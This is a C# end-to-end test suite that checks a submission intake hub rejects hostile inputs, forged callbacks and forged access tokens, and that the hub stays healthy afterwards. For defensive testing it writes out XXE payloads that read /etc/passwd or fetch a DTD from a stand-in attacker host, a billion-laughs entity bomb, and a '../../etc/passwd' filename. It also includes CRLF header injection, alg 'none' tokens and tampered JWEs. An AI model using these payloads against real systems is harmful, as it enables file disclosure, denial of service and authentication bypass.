using System.Buffers.Text;
using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using IntegrationHub.Intake;
using IntegrationHub.Jose;
using IntegrationHub.Ledger;
using IntegrationHub.OnceOnly;
using IntegrationHub.Simulators;
using IntegrationHub.Simulators.Crypto;
using IntegrationHub.Simulators.EfA;
using IntegrationHub.Simulators.Prosoz;
using IntegrationHub.Storage;
using IntegrationHub.Tenancy;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Options;
using Microsoft.IdentityModel.JsonWebTokens;
using Microsoft.IdentityModel.Tokens;

namespace IntegrationHub.EndToEndTests;

/// <summary>
/// Issue 8's hostile input suite: each hostile submission goes through the real intake as a sender would send it
/// (encrypted to the destination's published key) and must end with its specific problem, be forwarded nowhere, leave
/// only the sender's raw JWE blobs in the blob store, and leave the hub serving. Hostile callbacks and access tokens get
/// their specific 401. The last test shows a valid submission still goes through afterwards.
/// </summary>
[Collection(HostileInputCollection.Name)]
[TestCaseOrderer(AfterwardsLastOrderer.TypeName, AfterwardsLastOrderer.AssemblyName)]
public sealed class HostileInputTests(HostileInputHubFixture hub)
{
    /// <summary>Put into hostile values: it must never come back in a problem detail or the ledger.</summary>
    private const string Marker = "HOSTILEMARKER";
    private static readonly Guid Destination = HubFixture.DarmstadtSozialhilfe;
    private static readonly int ValueLimit = new IntakeLimits().MaxXmlValueCharacters;
    private static readonly int DataLimit = (int)new IntakeLimits().MaxDataBytes;

    /// <summary>How the sender bends its submission; everything not set is as a correct sender does it.</summary>
    private sealed record Plan
    {
        /// <summary>Changes the application XML (text) before it is hashed and encrypted.</summary>
        public Func<string, string>? Xml { get; init; }
        /// <summary>Changes the application's bytes (encodings) before they are hashed and encrypted.</summary>
        public Func<byte[], byte[]>? XmlBytes { get; init; }
        public bool Compress { get; init; }
        /// <summary>Changes the metadata (built over the final application bytes) before encryption.</summary>
        public Action<JsonObject>? Metadata { get; init; }
        public string? RawMetadata { get; init; }
        /// <summary>A protected header written verbatim (other algorithms); the content is still RSA-OAEP-256/A256GCM encrypted.</summary>
        public string? DataHeader { get; init; }
        public string? MetadataHeader { get; init; }
        public string? AttachmentHeader { get; init; }
        public Func<string, string>? DataJwe { get; init; }
        public Func<string, string>? MetadataJwe { get; init; }
        public Func<string, string>? AttachmentJwe { get; init; }
        /// <summary>Encrypt everything to this destination's key instead of the addressed one's.</summary>
        public Guid? KeyOf { get; init; }
        public bool UploadUnannounced { get; init; }
    }

    /// <param name="Problem">The problem type name the sender sees.</param>
    /// <param name="RefusedWith">Set when the intake refuses at once with this status; otherwise the submission is rejected by validation.</param>
    private sealed record Case(Plan Plan, string Problem, HttpStatusCode? RefusedWith = null);

    private static readonly string BillionLaughs = "<!DOCTYPE lolz [<!ENTITY lol0 \"lol\">"
        + string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}\">")) + "]>";

    private static readonly Dictionary<string, Case> Cases = new()
    {
        // XML
        ["xxe-general-entity"] = new(new() { Xml = x => Familienname(AfterDeclaration(x, """<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"""), "&xxe;") }, "xml-dtd-prohibited"),
        ["xxe-parameter-entity"] = new(new() { Xml = x => AfterDeclaration(x, """<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>""") }, "xml-dtd-prohibited"),
        ["billion-laughs"] = new(new() { Xml = x => Familienname(AfterDeclaration(x, BillionLaughs), "&lol9;") }, "xml-dtd-prohibited"),
        ["deep-nesting"] = new(new() { Xml = x => InRoot(x, string.Concat(Enumerable.Repeat("<x>", 10_000)) + string.Concat(Enumerable.Repeat("</x>", 10_000))) }, "xml-limit-exceeded"),
        ["huge-attribute-value"] = new(new() { Xml = x => RootAttribute(x, $"info=\"{Marker}{new string('A', ValueLimit)}\"") }, "xml-limit-exceeded"),
        ["huge-text-node"] = new(new() { Xml = x => Familienname(x, Marker + new string('B', ValueLimit)) }, "xml-limit-exceeded"),
        ["oversized-document"] = new(new() { Xml = x => InRoot(x, $"<!--{new string('C', DataLimit)}-->") }, "payload-too-large", HttpStatusCode.RequestEntityTooLarge),
        ["oversized-document-compressed"] = new(new() { Xml = x => InRoot(x, $"<!--{new string('C', DataLimit)}-->"), Compress = true }, "payload-too-large"),
        ["invalid-utf8-bytes"] = new(new() { XmlBytes = b => InsertAfterFamilienname(b, [0xC3, 0x28]) }, "xml-encoding-invalid"),
        ["overlong-utf8-less-than"] = new(new() { XmlBytes = b => InsertAfterFamilienname(b, [0xC0, 0xBC]) }, "xml-encoding-invalid"),
        ["utf16-with-bom"] = new(new() { XmlBytes = b => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Declaring(b, "utf-16"))] }, "xml-encoding-invalid"),
        ["utf16-without-bom"] = new(new() { XmlBytes = b => Encoding.BigEndianUnicode.GetBytes(Declaring(b, "utf-16")) }, "xml-encoding-invalid"),
        ["utf8-bom-declaring-utf16"] = new(new() { XmlBytes = b => [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(Declaring(b, "utf-16"))] }, "xml-encoding-invalid"),
        ["declared-latin1"] = new(new() { XmlBytes = b => Encoding.UTF8.GetBytes(Declaring(b, "ISO-8859-1")) }, "xml-encoding-invalid"),
        ["missing-namespace"] = new(new() { Xml = WithoutNamespaces }, "xml-namespace-invalid"),
        ["wrong-namespace"] = new(new() { Xml = x => x.Replace(DemoServices.SozialhilfeSchemaUri, "urn:integrationhub:xoev:sozialhilfe:9.9", StringComparison.Ordinal) }, "xml-namespace-invalid"),
        ["foreign-namespace-element"] = new(new() { Xml = x => InRoot(x, $"<evil:payload xmlns:evil=\"urn:attacker:evil\">{Marker}</evil:payload>") }, "schema-invalid"),
        ["schema-invalid-content"] = new(new() { Xml = x => Element(x, "geburtsdatum", "kein-datum-" + Marker) }, "schema-invalid"),
        ["processing-instruction-prolog"] = new(new() { Xml = x => AfterDeclaration(x, "<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.invalid/x.xsl\"?>") }, "xml-processing-instruction"),
        ["processing-instruction-body"] = new(new() { Xml = x => InRoot(x, $"<?efa-intern {Marker}?>") }, "xml-processing-instruction"),

        // JWE
        ["data-tag-tampered"] = new(new() { DataJwe = c => Flip(c, 4) }, "decryption-failed"),
        ["data-iv-tampered"] = new(new() { DataJwe = c => Flip(c, 2) }, "decryption-failed"),
        ["data-ciphertext-tampered"] = new(new() { DataJwe = c => Flip(c, 3) }, "decryption-failed"),
        ["data-encrypted-key-tampered"] = new(new() { DataJwe = c => Flip(c, 1) }, "decryption-failed"),
        // The protected header is the GCM tag's associated data: any change to it fails the tag.
        ["data-header-tampered"] = new(new() { DataJwe = c => EditHeader(c, h => h["typ"] = "tampered") }, "decryption-failed"),
        // The kid picks among the destination's own keys (key rotation): one it does not have is refused by name.
        ["data-kid-of-no-key"] = new(new() { DataJwe = c => EditHeader(c, h => h["kid"] = "tampered") }, "destination-key-unknown"),
        ["data-header-not-json"] = new(new() { DataJwe = c => Base64Url.EncodeToString("not json"u8) + c[c.IndexOf('.', StringComparison.Ordinal)..] }, "malformed-jwe", HttpStatusCode.BadRequest),
        ["metadata-tag-tampered"] = new(new() { MetadataJwe = c => Flip(c, 4) }, "decryption-failed"),
        ["metadata-header-tampered"] = new(new() { MetadataJwe = c => EditHeader(c, h => h["cty"] = "application/xml") }, "decryption-failed"),
        ["attachment-ciphertext-tampered"] = new(new() { AttachmentJwe = c => Flip(c, 3) }, "decryption-failed"),
        ["attachment-tag-tampered"] = new(new() { AttachmentJwe = c => Flip(c, 4) }, "decryption-failed"),
        ["data-alg-none"] = new(new() { DataHeader = """{"alg":"none","enc":"A256GCM"}""" }, "unsupported-encryption"),
        ["data-alg-dir"] = new(new() { DataHeader = """{"alg":"dir","enc":"A256GCM"}""" }, "unsupported-encryption"),
        ["data-alg-RSA1_5"] = new(new() { DataHeader = """{"alg":"RSA1_5","enc":"A256GCM"}""" }, "unsupported-encryption"),
        ["data-alg-RSA-OAEP-sha1"] = new(new() { DataHeader = """{"alg":"RSA-OAEP","enc":"A256GCM"}""" }, "unsupported-encryption"),
        ["data-enc-A128GCM"] = new(new() { DataHeader = """{"alg":"RSA-OAEP-256","enc":"A128GCM"}""" }, "unsupported-encryption"),
        ["data-enc-A256CBC-HS512"] = new(new() { DataHeader = """{"alg":"RSA-OAEP-256","enc":"A256CBC-HS512"}""" }, "unsupported-encryption"),
        ["metadata-alg-none"] = new(new() { MetadataHeader = """{"alg":"none","enc":"A256GCM"}""" }, "unsupported-encryption"),
        ["attachment-alg-dir"] = new(new() { AttachmentHeader = """{"alg":"dir","enc":"A256GCM"}""" }, "unsupported-encryption"),
        ["key-of-another-destination"] = new(new() { KeyOf = HubFixture.DarmstadtWohngeld }, "destination-key-unknown"),

        // Metadata
        ["data-hash-mismatch"] = new(new() { Metadata = m => FlipHash(m["contentStructure"]!["data"]!) }, "hash-mismatch"),
        ["attachment-hash-mismatch"] = new(new() { Metadata = m => FlipHash(m["contentStructure"]!["attachments"]![0]!) }, "hash-mismatch"),
        ["attachment-described-never-announced"] = new(new() { Metadata = DescribeAnotherAttachment }, "attachments-mismatch"),
        ["attachment-uploaded-never-announced"] = new(new() { UploadUnannounced = true }, "attachment-not-announced", HttpStatusCode.UnprocessableEntity),
        ["metadata-not-json"] = new(new() { RawMetadata = "{not json " + Marker }, "metadata-invalid"),
        ["metadata-duplicate-member"] = new(new() { RawMetadata = """{"contentStructure":{},"contentStructure":{}}""" }, "metadata-invalid"),
        ["metadata-reply-channel-not-a-uuid"] = new(new() { Metadata = m => m["replyChannel"] = new JsonObject { ["idBundDeMailbox"] = new JsonObject { ["mailboxUuid"] = Marker } } }, "metadata-invalid"),
        ["attachment-filename-with-path"] = new(new() { Metadata = m => m["contentStructure"]!["attachments"]![0]!["filename"] = "../../etc/passwd" }, "metadata-invalid"),
        ["attachment-filename-empty"] = new(new() { Metadata = m => m["contentStructure"]!["attachments"]![0]!["filename"] = "" }, "metadata-invalid"),
        ["attachment-mime-type-invalid"] = new(new() { Metadata = m => m["contentStructure"]!["attachments"]![0]!["mimeType"] = "text/html\r\nX-Injected: 1" }, "metadata-invalid"),
        ["metadata-without-content-structure"] = new(new() { Metadata = m => m.Remove("contentStructure") }, "metadata-invalid"),
        ["metadata-service-swapped"] = new(new() { Metadata = m => m["publicServiceType"]!["identifier"] = DemoServices.LeikaUrn(DemoServices.WohngeldLeikaKey) }, "service-mismatch"),
        ["metadata-schema-swapped"] = new(new() { Metadata = m => m["contentStructure"]!["data"]!["submissionSchema"]!["schemaUri"] = DemoServices.WohngeldSchemaUri }, "schema-unsupported"),
    };

    public static TheoryData<string> SubmissionCases()
    {
        var data = new TheoryData<string>();
        foreach (var name in Cases.Keys) data.Add(name);
        return data;
    }

    [Theory]
    [MemberData(nameof(SubmissionCases))]
    public async Task Hostile_submission_gets_its_specific_problem_is_forwarded_nowhere_and_stays_encrypted(string name)
    {
        var (plan, problem, refusedWith) = Cases[name];
        var sender = new RawSender(hub);
        var application = ApplicationFactory.Sozialhilfe(HubFixture.Darmstadt, "64283", "Darmstadt", seed: 800 + Cases.Keys.ToList().IndexOf(name), withAttachment: true);
        var text = Encoding.UTF8.GetString(application.Xml);
        var bytes = Encoding.UTF8.GetBytes(plan.Xml?.Invoke(text) ?? text);
        bytes = plan.XmlBytes?.Invoke(bytes) ?? bytes;
        application = application with { Xml = bytes };
        var metadata = hub.Sender().BuildMetadata(application);
        plan.Metadata?.Invoke(metadata);
        var (key, kid) = await sender.KeyAsync(plan.KeyOf ?? Destination);

        var create = await sender.CreateAsync(Destination, application.ServiceName, application.LeikaUrn, application.Attachments.Select(a => a.AttachmentId));
        create.StatusCode.Should().Be(HttpStatusCode.Created);
        var created = await RawSender.JsonAsync(create);
        var submissionId = created["submissionId"]!.GetValue<Guid>();
        var caseId = created["caseId"]!.GetValue<Guid>();
        var sent = new Dictionary<string, string>(); // blob name -> the JWE the sender sent for it
        HttpResponseMessage? refusal = null;
        foreach (var attachment in application.Attachments)
        {
            var jwe = Encrypt(attachment.Content, key, kid, plan.AttachmentHeader, compress: false);
            jwe = plan.AttachmentJwe?.Invoke(jwe) ?? jwe;
            (await sender.UploadAsync(submissionId, attachment.AttachmentId, jwe)).StatusCode.Should().Be(HttpStatusCode.NoContent);
            sent[SubmissionBlobs.Attachment(submissionId, attachment.AttachmentId)] = jwe;
        }
        if (plan.UploadUnannounced)
        {
            var unannounced = await sender.UploadAsync(submissionId, Guid.NewGuid(), Encrypt(MinimalPdf.Create(Marker), key, kid, null, compress: false));
            if (unannounced.StatusCode != HttpStatusCode.NoContent) refusal = unannounced;
        }
        if (refusal is null)
        {
            var encryptedMetadata = Encrypt(plan.RawMetadata is { } raw ? Encoding.UTF8.GetBytes(raw) : Encoding.UTF8.GetBytes(metadata.ToJsonString()),
                key, kid, plan.MetadataHeader, compress: false);
            encryptedMetadata = plan.MetadataJwe?.Invoke(encryptedMetadata) ?? encryptedMetadata;
            var encryptedData = Encrypt(bytes, key, kid, plan.DataHeader, plan.Compress);
            encryptedData = plan.DataJwe?.Invoke(encryptedData) ?? encryptedData;
            var submit = await sender.SubmitAsync(submissionId, encryptedMetadata, encryptedData);
            if (submit.StatusCode == HttpStatusCode.Accepted)
            {
                sent[SubmissionBlobs.Metadata(submissionId)] = encryptedMetadata;
                sent[SubmissionBlobs.Data(submissionId)] = encryptedData;
            }
            else refusal = submit;
        }

        var status = (await RawSender.JsonAsync(await sender.SendAsync(HttpMethod.Get, $"/v1/submissions/{submissionId}")))["status"]!.GetValue<string>();
        if (refusedWith is { } expectedStatus)
        {
            refusal.Should().NotBeNull("the intake refuses this at once");
            refusal!.StatusCode.Should().Be(expectedStatus);
            (await RawSender.ProblemTypeAsync(refusal)).Should().Be(Type(problem));
            status.Should().Be("incomplete");
        }
        else
        {
            (refusal is null ? "accepted for validation" : await RawSender.ProblemTypeAsync(refusal)).Should().Be("accepted for validation");
            var (submission, _) = await hub.WaitUntilSettledAsync(submissionId);
            submission.Status.Should().Be(SubmissionStatus.Rejected);
            submission.ProblemType.Should().Be(Type(problem));
            submission.ProblemDetail.Should().NotContain(Marker, "problem details never echo submitted values");
            submission.ProcessingFault.Should().BeNull("an expected problem is a rejection, never a fault");
            (await RawSender.JsonAsync(await sender.SendAsync(HttpMethod.Get, $"/v1/submissions/{submissionId}")))["status"]!.GetValue<string>()
                .Should().Be("rejected");
            var reject = await LastEventAsync(sender, caseId);
            reject.EventUri.Should().Be(FitConnectEvents.RejectSubmission);
            reject.EventPayload!["problems"]![0]!["type"]!.GetValue<string>().Should().Be(Type(problem));
        }

        await ForwardedNowhereAndStoredOnlyAsSentAsync(submissionId, sent);
        (await sender.Http.GetAsync("/health/ready")).StatusCode.Should().Be(HttpStatusCode.OK);
    }

    [Fact]
    public async Task A_submission_sent_twice_is_refused_the_second_time_and_reaches_the_procedure_once()
    {
        var sender = new RawSender(hub);
        var application = ApplicationFactory.Sozialhilfe(HubFixture.Darmstadt, "64283", "Darmstadt", seed: 790, withAttachment: false);
        var (key, kid) = await sender.KeyAsync(Destination);
        var created = await RawSender.JsonAsync(await sender.CreateAsync(Destination, application.ServiceName, application.LeikaUrn, []));
        var submissionId = created["submissionId"]!.GetValue<Guid>();
        var metadata = JweEncryptor.Encrypt(Encoding.UTF8.GetBytes(hub.Sender().BuildMetadata(application).ToJsonString()), key, kid);
        var data = JweEncryptor.Encrypt(application.Xml, key, kid);

        var first = await sender.SubmitAsync(submissionId, metadata, data);
        var second = await sender.SubmitAsync(submissionId, JweEncryptor.Encrypt("{}"u8, key, kid), JweEncryptor.Encrypt("<x/>"u8, key, kid));

        first.StatusCode.Should().Be(HttpStatusCode.Accepted);
        second.StatusCode.Should().Be(HttpStatusCode.Conflict);
        (await RawSender.ProblemTypeAsync(second)).Should().Be(Type("submission-not-incomplete"));
        var (submission, _) = await hub.WaitUntilSettledAsync(submissionId);
        submission.Status.Should().Be(SubmissionStatus.Accepted);
        hub.Simulators.Prosoz.CaseCountFor(submissionId).Should().Be(1);
        (await StoredAsync(submissionId)).Should().BeEquivalentTo(new Dictionary<string, string>
        {
            [SubmissionBlobs.Metadata(submissionId)] = metadata, [SubmissionBlobs.Data(submissionId)] = data,
        }, "the second send changes nothing that was stored");
    }

    public static TheoryData<string> CredentialCases() => new()
    {
        "callback-wrong-secret", "callback-timestamp-6-minutes-old", "callback-timestamp-6-minutes-ahead", "callback-replayed", "callback-unsigned",
        "token-expired", "token-foreign-audience", "token-foreign-issuer", "token-wrong-signature", "token-alg-none",
    };

    [Theory]
    [MemberData(nameof(CredentialCases))]
    public async Task Hostile_credentials_get_their_specific_401_and_change_nothing(string name)
    {
        var reportsBefore = await hub.InLedgerAsync(db => db.StatusReports.CountAsync());
        if (name.StartsWith("callback-", StringComparison.Ordinal))
        {
            var body = Encoding.UTF8.GetBytes(new JsonObject
            {
                ["submissionId"] = Guid.NewGuid().ToString(), ["aktenzeichen"] = "50.21-SGB12-2026-000001", ["sequence"] = 1,
                ["status"] = "PROCESSING", ["occurredAt"] = DateTimeOffset.UtcNow.ToString("O", CultureInfo.InvariantCulture),
            }.ToJsonString());
            var now = DateTimeOffset.UtcNow.ToUnixTimeSeconds();
            var secret = hub.ProsozCallbackSecret;
            var (answer, detail) = name switch
            {
                "callback-wrong-secret" => (await PostReportAsync(body, now, ProsozCaseReports.Sign("not-the-secret", now, body)), "does not match"),
                "callback-timestamp-6-minutes-old" => (await PostReportAsync(body, now - 360, ProsozCaseReports.Sign(secret, now - 360, body)), "more than 5 minutes"),
                "callback-timestamp-6-minutes-ahead" => (await PostReportAsync(body, now + 360, ProsozCaseReports.Sign(secret, now + 360, body)), "more than 5 minutes"),
                "callback-unsigned" => (await PostReportAsync(body, now, null), "are required"),
                _ => (await ReplayAsync(body, now, ProsozCaseReports.Sign(secret, now, body)), "received before"),
            };
            answer.StatusCode.Should().Be(HttpStatusCode.Unauthorized);
            var problem = await RawSender.JsonAsync(answer);
            problem["type"]!.GetValue<string>().Should().Be(Type("callback-unauthenticated"));
            problem["detail"]!.GetValue<string>().Should().Contain(detail);
        }
        else
        {
            var sender = new RawSender(hub);
            var path = $"/v1/submissions/{Guid.NewGuid()}";
            var answer = await sender.SendAsync(HttpMethod.Get, path, bearer: HostileToken(name));
            answer.StatusCode.Should().Be(HttpStatusCode.Unauthorized);
            answer.Headers.WwwAuthenticate.ToString().Should().Contain("invalid_token");
            (await RawSender.ProblemTypeAsync(answer)).Should().Be(Type("unauthorized"));
            // The same request with the hub's own token gets past authentication.
            (await RawSender.ProblemTypeAsync(await sender.SendAsync(HttpMethod.Get, path))).Should().Be(Type("submission-not-found"));
        }
        (await hub.InLedgerAsync(db => db.StatusReports.CountAsync())).Should().Be(reportsBefore);
    }

    [Fact]
    public async Task Afterwards_the_hub_is_healthy_and_a_valid_submission_still_reaches_the_procedure()
    {
        (await hub.Factory.CreateClient().GetAsync("/health/ready")).StatusCode.Should().Be(HttpStatusCode.OK);
        var outcome = await hub.Sender().SubmitAsync(
            ApplicationFactory.Sozialhilfe(HubFixture.Darmstadt, "64283", "Darmstadt", seed: 799, withAttachment: true), Destination);

        outcome.SubmitStatus.Should().Be(202);
        var (submission, _) = await hub.WaitUntilSettledAsync(outcome.SubmissionId!.Value);
        submission.Status.Should().Be(SubmissionStatus.Accepted);
        hub.Simulators.Prosoz.CaseCountFor(submission.Id).Should().Be(1);
    }

    private async Task ForwardedNowhereAndStoredOnlyAsSentAsync(Guid submissionId, Dictionary<string, string> sent)
    {
        (await hub.InLedgerAsync(db => db.Deliveries.CountAsync(d => d.SubmissionId == submissionId))).Should().Be(0, "nothing is routed");
        hub.Simulators.Prosoz.CaseCountFor(submissionId).Should().Be(0);
        hub.Simulators.Prosoz.Calls.Should().NotContain(c => c.SubmissionId == submissionId);
        hub.Simulators.Marius.CaseCountFor(submissionId).Should().Be(0);
        hub.Simulators.Marius.Calls.Should().NotContain(c => c.SubmissionId == submissionId);
        // Only the sender's JWE blobs, byte for byte: nothing decrypted was written next to them.
        var stored = await StoredAsync(submissionId);
        stored.Keys.Should().BeEquivalentTo(sent.Keys);
        foreach (var (blob, jwe) in sent) (stored[blob] == jwe).Should().BeTrue($"{blob} holds what the sender sent");
    }

    private async Task<Dictionary<string, string>> StoredAsync(Guid submissionId)
    {
        var blobs = hub.Factory.Services.GetRequiredService<IBlobStore>();
        var stored = new Dictionary<string, string>();
        await foreach (var blob in blobs.ListAsync(SubmissionBlobs.Prefix(submissionId)))
        {
            await using var stream = await blobs.OpenReadAsync(blob);
            using var reader = new StreamReader(stream, Encoding.Latin1);
            stored[blob] = await reader.ReadToEndAsync();
        }
        return stored;
    }

    private async Task<SecurityEventTokenVerification> LastEventAsync(RawSender sender, Guid caseId)
    {
        var log = await RawSender.JsonAsync(await sender.SendAsync(HttpMethod.Get, $"/v1/cases/{caseId}/events"));
        var jwks = JsonNode.Parse(await sender.Http.GetStringAsync("/.well-known/jwks.json"))!;
        var verification = SecurityEventTokenValidator.Verify(log["eventLog"]!.AsArray().Last()!.GetValue<string>(), Jwk.ImportPublic(jwks["keys"]![0]!.AsObject()));
        verification.IsValid.Should().BeTrue(verification.Failure);
        return verification;
    }

    private async Task<HttpResponseMessage> PostReportAsync(byte[] body, long timestamp, string? signature)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/v1/procedures/prosoz/reports") { Content = new ByteArrayContent(body) };
        request.Content.Headers.ContentType = new MediaTypeHeaderValue("application/json");
        request.Headers.Add("callback-timestamp", timestamp.ToString(CultureInfo.InvariantCulture));
        if (signature is not null) request.Headers.Add("callback-authentication", signature);
        return await hub.Factory.CreateClient().SendAsync(request);
    }

    // The first delivery is authentic (about a case the hub does not know); the identical second one is the replay.
    private async Task<HttpResponseMessage> ReplayAsync(byte[] body, long timestamp, string signature)
    {
        var first = await PostReportAsync(body, timestamp, signature);
        (await RawSender.ProblemTypeAsync(first)).Should().Be(Type("unknown-case"), "the original callback is authentic");
        return await PostReportAsync(body, timestamp, signature);
    }

    private string HostileToken(string name)
    {
        var options = hub.Factory.Services.GetRequiredService<IOptions<HubOptions>>().Value;
        var hubKey = hub.Factory.Services.GetRequiredService<KeyStore>().HubSigningKey;
        var now = DateTime.UtcNow;
        string Mint(string issuer, string audience, DateTime expires, RSA key) => new JsonWebTokenHandler().CreateToken(new SecurityTokenDescriptor
        {
            Issuer = issuer,
            Audience = audience,
            IssuedAt = expires.AddMinutes(-30),
            NotBefore = expires.AddMinutes(-30),
            Expires = expires,
            Claims = new Dictionary<string, object> { ["client_id"] = HubFixture.ClientId, ["sub"] = HubFixture.ClientId, ["scope"] = "" },
            SigningCredentials = new SigningCredentials(new RsaSecurityKey(key) { KeyId = hubKey.Kid }, SecurityAlgorithms.RsaSsaPssSha512),
        });
        using var foreignKey = RSA.Create(2048);
        return name switch
        {
            "token-expired" => Mint(options.PublicBaseUrl, AccessTokens.Audience, now.AddMinutes(-2), hubKey.Rsa),
            "token-foreign-audience" => hub.Factory.Services.GetRequiredService<EvidenceAccessTokens>().Issue(HubFixture.ClientId),
            "token-foreign-issuer" => Mint("https://attacker.invalid", AccessTokens.Audience, now.AddMinutes(10), hubKey.Rsa),
            "token-wrong-signature" => Mint(options.PublicBaseUrl, AccessTokens.Audience, now.AddMinutes(10), foreignKey),
            "token-alg-none" => Base64Url.EncodeToString("""{"alg":"none","typ":"JWT"}"""u8) + "."
                + Base64Url.EncodeToString(Encoding.UTF8.GetBytes(new JsonObject
                {
                    ["iss"] = options.PublicBaseUrl, ["aud"] = AccessTokens.Audience, ["client_id"] = HubFixture.ClientId, ["sub"] = HubFixture.ClientId,
                    ["iat"] = DateTimeOffset.UtcNow.ToUnixTimeSeconds(), ["exp"] = DateTimeOffset.UtcNow.AddMinutes(10).ToUnixTimeSeconds(),
                }.ToJsonString())) + ".",
            _ => throw new ArgumentOutOfRangeException(nameof(name), name, "no such token case"),
        };
    }

    private static string Type(string name) => "urn:integrationhub:problem:" + name;

    private static string Encrypt(byte[] plaintext, RSA key, string kid, string? header, bool compress) =>
        header is null ? JweEncryptor.Encrypt(plaintext, key, kid, compress: compress) : JweEncryptor.EncryptWithHeader(plaintext, key, header, compress);

    /// <summary>Flips one bit in the middle of a part of a compact JWE (the length stays).</summary>
    private static string Flip(string compact, int part)
    {
        var parts = JweEncryptor.Split(compact);
        var bytes = Base64Url.DecodeFromChars(parts[part]);
        bytes[bytes.Length / 2] ^= 0x01;
        parts[part] = Base64Url.EncodeToString(bytes);
        return JweEncryptor.Join(parts);
    }

    private static string EditHeader(string compact, Action<JsonObject> edit)
    {
        var parts = JweEncryptor.Split(compact);
        var header = JsonNode.Parse(Base64Url.DecodeFromChars(parts[0]))!.AsObject();
        edit(header);
        parts[0] = Base64Url.EncodeToString(Encoding.UTF8.GetBytes(header.ToJsonString()));
        return JweEncryptor.Join(parts);
    }

    private static void FlipHash(JsonNode described)
    {
        var hash = described["hash"]!["content"]!.GetValue<string>();
        described["hash"]!["content"] = (hash[0] == '0' ? '1' : '0') + hash[1..];
    }

    private static void DescribeAnotherAttachment(JsonObject metadata) =>
        metadata["contentStructure"]!["attachments"]!.AsArray().Add(new JsonObject
        {
            ["attachmentId"] = Guid.NewGuid().ToString(),
            ["hash"] = new JsonObject { ["type"] = "sha512", ["content"] = Sha512.Hex("never sent"u8.ToArray()) },
            ["purpose"] = "attachment", ["filename"] = "extra.pdf", ["mimeType"] = "application/pdf",
        });

    private static (string Declaration, string Body) SplitDeclaration(string xml)
    {
        var end = xml.StartsWith("<?xml", StringComparison.Ordinal) ? xml.IndexOf("?>", StringComparison.Ordinal) + 2 : 0;
        return (xml[..end], xml[end..]);
    }

    private static string AfterDeclaration(string xml, string insert)
    {
        var (declaration, rest) = SplitDeclaration(xml);
        return declaration + insert + rest;
    }

    // Right after the root element's start tag (its attributes are namespace declarations: no '>' in them).
    private static string InRoot(string xml, string insert)
    {
        var (declaration, rest) = SplitDeclaration(xml);
        var end = rest.IndexOf('>', rest.IndexOf('<', StringComparison.Ordinal)) + 1;
        return declaration + rest[..end] + insert + rest[end..];
    }

    private static string RootAttribute(string xml, string attribute)
    {
        var (declaration, rest) = SplitDeclaration(xml);
        var end = rest.IndexOf('>', rest.IndexOf('<', StringComparison.Ordinal));
        return declaration + rest[..end] + " " + attribute + rest[end..];
    }

    private static string Element(string xml, string localName, string value) =>
        new Regex($"(:{localName}>)[^<]*(</)").Replace(xml, m => m.Groups[1].Value + value + m.Groups[2].Value, 1);

    private static string Familienname(string xml, string value) => Element(xml, "familienname", value);

    private static byte[] InsertAfterFamilienname(byte[] xml, byte[] insert)
    {
        var at = xml.AsSpan().IndexOf(":familienname>"u8) + ":familienname>".Length;
        return [.. xml[..at], .. insert, .. xml[at..]];
    }

    private static string Declaring(byte[] xml, string encoding) =>
        Encoding.UTF8.GetString(xml).Replace("encoding=\"utf-8\"", $"encoding=\"{encoding}\"", StringComparison.OrdinalIgnoreCase);

    private static string WithoutNamespaces(string xml)
    {
        var document = XDocument.Parse(xml, LoadOptions.PreserveWhitespace);
        foreach (var element in document.Root!.DescendantsAndSelf())
        {
            element.Attributes().Where(a => a.IsNamespaceDeclaration).Remove();
            element.Name = element.Name.LocalName;
        }
        return document.Declaration + document.ToString(SaveOptions.DisableFormatting);
    }
}

/// <summary>
/// The hostile suites allocate hundreds of megabytes and keep both cores busy: they run alone, after the parallel
/// collections (which measure memory and time), on a hub of their own.
/// </summary>
[CollectionDefinition(Name, DisableParallelization = true)]
public sealed class HostileInputCollection : ICollectionFixture<HostileInputHubFixture>
{
    public const string Name = "hostile input, alone";
}

/// <summary>
/// The hub of the hostile suites: one sender sends thousands of requests within a minute, far beyond the per-client rate
/// limit, which RateLimitTests prove on their own; here every request must reach the defences behind it.
/// </summary>
public sealed class HostileInputHubFixture : HubFixture
{
    protected override IEnumerable<KeyValuePair<string, string>> Settings(SimulatorServer simulators) =>
    [
        new("Hub:Limits:RateLimit:PermitLimit", "1000000"),
        new("Hub:Limits:RateLimit:TokenPermitLimit", "1000000"),
    ];
}
